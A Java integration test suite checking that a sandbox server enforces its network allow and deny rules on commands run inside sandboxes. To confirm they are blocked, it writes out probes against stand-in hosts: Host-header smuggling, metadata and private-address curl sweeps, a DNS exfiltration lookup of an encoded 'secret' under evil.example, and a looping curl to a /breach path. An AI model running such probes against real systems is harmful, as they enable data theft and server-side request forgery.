package dev.carrel.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.carrel.error.CarrelException;
import dev.carrel.error.ErrorCode;
import dev.carrel.process.HostCommand;
import dev.carrel.sandbox.oci.Eventually;
import dev.carrel.wire.Command;
import dev.carrel.wire.ExecuteRequest;
import dev.carrel.wire.IdleRules;
import dev.carrel.wire.NetworkRules;
import dev.carrel.wire.SandboxChange;
import dev.carrel.wire.SandboxRequest;
import java.io.IOException;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;

/// The network rules of sandboxes, as callers of a real server set them and commands inside feel
/// them.
class NetworkApiIT extends InternetStage {
    private static final NetworkRules ON = NetworkRules.ofInternet(true);
    private static final NetworkRules OFF = NetworkRules.ofInternet(false);

    @Test
    void theInternetIsOnByDefaultAndOffWhenAsked() {
        String on = create(SandboxRequest.builder());
        assertThat(web(on, "http://evil.example/")).contains("hello by http at " + internet.evil);
        assertThat(web(on, "https://good.example/")).contains("hello by https");
        assertThat(web(on, "http://" + internet.good + ":8080/")).endsWith("[200]");
        assertThat(datagram(on, internet.good, 9000)).isEqualTo("hello by udp");
        assertThat(greeting(on, internet.good, 22)).isEqualTo("hello by tcp\n");

        String off = create(OFF);
        assertThat(client.sandboxes().get(off).network()).isEqualTo(OFF);
        assertThat(web(off, "http://good.example/")).contains("failed: 6");
        assertThat(web(off, "http://" + internet.good + "/")).contains("failed: 7");
        assertThat(datagram(off, internet.good, 9000)).isEmpty();
        assertThat(run(off, "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | xargs"))
                .isEqualTo("lo\n");
    }

    @Test
    void rangesOpenAndCloseAddresses() {
        String one = create(rules(internet.good, ""));
        String network = internet.good.replaceFirst("[0-9]+$", "0/24");
        assertThat(web(one, "http://" + internet.good + "/")).endsWith("[200]");
        assertThat(web(one, "http://" + internet.evil + "/")).contains("failed: 7");
        assertThat(datagram(one, internet.good, 9000)).isEqualTo("hello by udp");
        assertThat(datagram(one, internet.evil, 9000)).isEmpty();

        String but = create(rules(network, internet.evil));
        assertThat(web(but, "http://" + internet.good + "/")).endsWith("[200]");
        assertThat(web(but, "http://" + internet.evil + "/")).contains("failed: 7");
        String none = create(rules("0.0.0.0/0", network));
        assertThat(web(none, "http://" + internet.good + "/")).contains("failed: 7");
    }

    @Test
    void namesDecideAndTheRefusedIsTold() throws IOException {
        String id = create(rules("good.example *.good.example", ""));
        assertThat(web(id, "http://good.example/")).contains("hello by http at " + internet.good);
        assertThat(web(id, "https://good.example/")).contains("hello by https");
        assertThat(web(id, "https://api.good.example/")).contains("hello by https");
        assertThat(web(id, "https://GOOD.example./")).contains("hello by https");

        // Its name does not exist in there; who knows the address gets no further.
        assertThat(lookUp(id, "evil.example")).isEmpty();
        assertThat(web(id, "http://evil.example/")).contains("failed: 6");
        String known = "--resolve evil.example:80:IP --resolve evil.example:443:IP ";
        String forced = known.replace("IP", internet.evil);
        assertThat(web(id, forced + "http://evil.example/"))
                .contains("the network policy of this sandbox does not allow evil.example")
                .endsWith("[403]");
        assertThat(web(id, forced + "https://evil.example/")).contains("failed: 35");
        assertThat(internet.names.asked()).noneMatch(name -> name.contains("nothing.example"));
        assertThat(internet.asked()).noneMatch(line -> line.contains("evil.example"));

        String below = create(rules("*.good.example", ""));
        assertThat(web(below, "https://api.good.example/")).contains("hello by https");
        assertThat(web(below, "http://good.example/")).contains("failed: 6");
        String but = create(rules("*.good.example good.example", "api.good.example"));
        assertThat(web(but, "https://good.example/")).contains("hello by https");
        assertThat(web(but, "https://api.good.example/")).contains("failed: 6");
        String denied = create(rules("", "evil.example"));
        assertThat(web(denied, "https://good.example/")).contains("hello by https");
        assertThat(web(denied, "http://evil.example/")).contains("failed: 6");
        assertThat(web(denied, "http://alias.example/")).contains("failed: 6");
    }

    @Test
    void namesCannotBeConfused() {
        String id = create(rules("good.example", ""));
        String toGood = "http://good.example/";
        assertThat(web(id, "-H 'Host: evil.example' " + toGood)).endsWith("[403]");
        for (String head :
                List.of(
                        "GET / HTTP/1.1|Host: good.example|Host: evil.example",
                        "GET / HTTP/1.1|Host: good.example|Host : evil.example",
                        "GET / HTTP/1.1|Host: good.example| evil.example",
                        "GET / HTTP/1.1|Host: good.example, evil.example",
                        "GET http://evil.example/ HTTP/1.1|Host: good.example",
                        "GET / HTTP/1.0",
                        "CONNECT evil.example:80 HTTP/1.1|Host: good.example")) {
            assertThat(raw(id, internet.evil, head)).as(head).contains(" 40");
        }
        assertThat(web(id, "-H 'Host: " + internet.evil + "' " + toGood)).endsWith("[400]");
        assertThat(web(id, "-H 'Host: good.example@evil.example' " + toGood)).endsWith("[400]");
        assertThat(web(id, "-H 'Host:' " + toGood)).endsWith("[400]");
        assertThat(web(id, "--proxy http://good.example:80 http://evil.example/"))
                .endsWith("[400]");
        // The name is right, the address is another's: the proxy goes where the name leads.
        assertThat(
                        web(
                                id,
                                "--connect-to good.example:80:%s:80 %s"
                                        .formatted(internet.evil, toGood)))
                .contains("hello by http at " + internet.good);
        assertThat(web(id, "http://" + internet.good + "/")).endsWith("[400]");
        assertThat(web(id, "https://" + internet.good + "/")).contains("failed: 35");
        assertThat(
                        web(
                                id,
                                "--connect-to good.example:443:%s:443 https://good.example/"
                                        .formatted(internet.evil)))
                .contains("hello by https at " + internet.good);
        assertThat(greeting(id, internet.good, 22)).isEmpty();
        assertThat(datagram(id, internet.good, 9000)).isEmpty();
    }

    @Test
    void whatIsAlwaysClosedStaysClosed() throws IOException {
        String other = create(ON);
        run(other, "nohup python3 -m http.server 8000 > /dev/null 2>&1 &");
        String address = run(other, "hostname -I").strip();
        String gateway = run(other, "sed -n 's/nameserver //p' /etc/resolv.conf").strip();
        String host = HostCommand.of("hostname", "-I").run().out().split(" ")[0];
        int port = server.uri().getPort();
        for (NetworkRules rules :
                List.of(ON, rules("0.0.0.0/0", ""), rules("*.example 0.0.0.0/0", ""))) {
            String id = create(rules);
            List<String> targets =
                    List.of(
                            gateway + ":" + port,
                            host + ":" + port,
                            address + ":8000",
                            internet.inner,
                            "inner.example",
                            "169.254.169.254",
                            "metadata.example",
                            "loop.example:" + port,
                            "10.0.0.1",
                            "192.168.0.1",
                            "[::ffff:169.254.169.254]",
                            "[fd00:ec2::254]",
                            "[2606:4700::1111]");
            String all =
                    targets.stream()
                            .map(target ->
                                    "curl -ks -m 1.5 -w '[%%{http_code}] %1$s\n' http://%1$s/ &"
                                            .formatted(target))
                            .collect(Collectors.joining("\n", "", "\nwait"));
            assertThat(run(id, all).lines().sorted())
                    .as(rules.toString())
                    .containsExactlyElementsOf(
                            targets.stream().map(target -> "[000] " + target).sorted().toList());
        }
        assertThat(run(other, "curl -s http://127.0.0.1:8000/")).contains("Directory listing");
        assertRefused("169.254.169.254", "never open");
        assertRefused("127.0.0.0/8", "never open");
        assertRefused("10.0.0.0/8", "network.private_allow");
        assertRefused("fd00::/8", "network.allow");
    }

    private void assertRefused(String allow, String why) {
        assertThatThrownBy(() -> create(rules(allow, ""))).hasMessageContaining(why);
    }

    @Test
    void aPrivateRangeOpensToThoseWhoNameIt() {
        String id = create(rules(internet.innerRange + " inner.example", ""));
        assertThat(web(id, "http://" + internet.inner + "/")).endsWith("[200]");
        assertThat(web(id, "http://inner.example/")).endsWith("[200]");
        assertThat(web(id, "http://good.example/")).contains("failed: 6");
    }

    @Test
    void onlyTheServersOwnResolverAnswers() {
        for (NetworkRules rules : List.of(ON, rules("0.0.0.0/0", ""), rules("good.example", ""))) {
            String id = create(rules);
            for (int port : List.of(53, 853)) {
                assertThat(greeting(id, internet.good, port)).as(port + " " + rules).isEmpty();
            }
            assertThat(datagram(id, internet.good, 53)).isEmpty();
        }
        String limited = create(rules("good.example", ""));
        assertThat(lookUp(limited, "good.example")).isEqualTo(internet.good);
        // What would carry words out: names below what is not allowed, and records with text.
        run(limited, "getent hosts c2VjcmV0.evil.example c2VjcmV0.good.example");
        assertThat(internet.names.asked()).noneMatch(name -> name.startsWith("c2vjcmv0."));
    }

    @Test
    void aChangeHoldsAtOnceAndForOpenConnections() throws Exception {
        String id = create(OFF);
        assertThat(web(id, "http://good.example/")).contains("failed");
        change(id, ON);
        assertThat(web(id, "http://good.example/")).endsWith("[200]");

        String direct = drip(id);
        change(id, rules("", internet.good));
        assertThat(hasEnded(id, direct)).isTrue();
        assertThat(web(id, "http://" + internet.good + "/")).contains("failed: 7");

        change(id, rules("good.example", ""));
        String proxied = drip(id);
        change(id, rules("evil.example", ""));
        assertThat(hasEnded(id, proxied)).isTrue();
        assertThat(web(id, "http://good.example/")).contains("failed: 6");
        assertThat(web(id, "http://evil.example/")).endsWith("[200]");

        String kept = drip(id);
        change(id, rules("evil.example good.example", ""));
        long before = client.sandboxes().execution(id, kept).stdout().length();
        Eventually.holds(
                () -> client.sandboxes().execution(id, kept).stdout().length() > before + 25);
        change(id, OFF);
        assertThat(hasEnded(id, kept)).isTrue();
        assertThatThrownBy(() -> change(id, rules("10.0.0.0/8", "")))
                .hasMessageContaining("network.private_allow");
        assertThat(client.sandboxes().get(id).network()).isEqualTo(OFF);
    }

    /// A download that never ends by itself, once it has begun.
    private String drip(String id) throws Exception {
        String host =
                client.sandboxes().get(id).network().allow().contains("evil.example")
                        ? "evil.example"
                        : "good.example";
        var line = Command.line("exec curl -sSN --speed-time 1 http://" + host + "/drip");
        String begun = client.sandboxes().execute(id, ExecuteRequest.of(line).inBackground()).id();
        Eventually.holds(
                () -> client.sandboxes().execution(id, begun).stdout().contains("drop\ndrop\n"));
        return begun;
    }

    /// Curl gives up after a second without a byte.
    private boolean hasEnded(String id, String execution) throws Exception {
        Eventually.holds(
                () -> !client.sandboxes().execution(id, execution).status().equals("running"));
        return true;
    }

    @Test
    void gvisorSandboxesAreHeldToTheSameRules() throws IOException {
        SandboxRequest.Builder request =
                SandboxRequest.builder().isolation("gvisor").network(rules("good.example", ""));
        String id;
        try {
            id = create(request);
        } catch (CarrelException e) {
            Assumptions.assumeFalse(e.code() == ErrorCode.NOT_SUPPORTED, e.getMessage());
            throw e;
        }
        assertThat(web(id, "https://good.example/")).contains("hello by https");
        assertThat(web(id, "http://evil.example/")).contains("failed: 6");
        assertThat(web(id, "http://" + internet.evil + "/")).endsWith("[400]");
        assertThat(web(id, "http://" + internet.inner + "/")).contains("[000]");
        change(id, rules("", internet.good));
        assertThat(web(id, "http://evil.example/")).endsWith("[200]");
        assertThat(web(id, "http://" + internet.good + "/")).contains("failed: 7");
        client.sandboxes().pause(id);
        assertThat(web(id, "http://" + internet.good + "/")).contains("failed: 7");
        client.sandboxes().delete(id);
    }

    @Test
    void rulesHoldOverPauseStopAndRestarts() throws Exception {
        NetworkRules byName = rules("good.example", "");
        NetworkRules byRange = rules("", internet.evil);
        String named = create(byName);
        String ranged = create(byRange);
        String off = create(OFF);

        for (String id : List.of(named, ranged, off)) {
            client.sandboxes().pause(id);
        }
        assertHold(named, ranged, off);

        for (String id : List.of(named, ranged, off)) {
            client.sandboxes().change(id, SandboxChange.NONE.withIdle(IdleRules.of(0, 1)));
        }
        Eventually.holds(() -> client.sandboxes().get(named).state().equals("stopped"));
        Eventually.holds(() -> client.sandboxes().get(ranged).state().equals("stopped"));
        client.sandboxes().clear(named, "idle");
        client.sandboxes().clear(ranged, "idle");
        assertHold(named, ranged, off);

        // Tries all the while, also when no server runs.
        String line =
                """
                while sleep 0.02; do
                    curl -sm 1 http://EVIL/breach
                    curl -sm 1 -H 'Host: evil.example' http://EVIL/breach
                done
                """
                        .replace("EVIL", internet.evil);
        var trying = Command.line(line);
        for (String id : List.of(named, ranged)) {
            client.sandboxes().execute(id, ExecuteRequest.of(trying).inBackground());
        }
        server.kill();
        revive();
        assertHold(named, ranged, off);
        assertThat(client.sandboxes().get(named).network()).isEqualTo(byName);
        assertThat(client.sandboxes().get(ranged).network()).isEqualTo(byRange);
        assertThat(internet.asked()).noneMatch(asked -> asked.contains("breach"));
    }

    private void assertHold(String named, String ranged, String off) {
        assertThat(web(named, "http://good.example/")).endsWith("[200]");
        assertThat(web(named, "http://evil.example/")).contains("failed: 6");
        assertThat(web(named, "http://" + internet.evil + "/")).endsWith("[400]");
        assertThat(web(ranged, "http://good.example/")).endsWith("[200]");
        assertThat(web(ranged, "http://" + internet.evil + "/")).contains("failed: 7");
        assertThat(web(off, "http://" + internet.good + "/")).contains("failed: 7");
    }
}
